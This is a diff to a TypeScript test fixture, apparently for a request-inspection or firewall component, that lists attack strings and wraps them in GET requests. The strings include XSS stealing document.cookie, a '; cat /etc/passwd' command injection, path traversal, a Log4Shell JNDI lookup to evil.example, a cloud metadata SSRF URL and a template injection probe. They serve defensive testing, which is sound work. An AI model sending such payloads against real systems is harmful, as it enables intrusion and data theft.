@@ -20,6 +20,7 @@ const ATTACKS: InspectionInput[] = [
   '<script>alert(document.cookie)</script>',
   '; cat /etc/passwd',
   '../../../../etc/passwd',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell payload is the literal `${jndi:…}`
   '${jndi:ldap://evil.example/a}',
   'http://169.254.169.254/latest/meta-data/',
   '{{7*7}}',
@@ -27,7 +28,11 @@ const ATTACKS: InspectionInput[] = [
   method: 'GET',
   path: '/api/v1/search',
   rawQuery: `q=${encodeURIComponent(p)}&page=2`,
-  headers: { host: 'api.example.com', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', accept: '*/*' },
+  headers: {
+    host: 'api.example.com',
+    'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
+    accept: '*/*',
+  },
   bodyComplete: true,
 }));
 
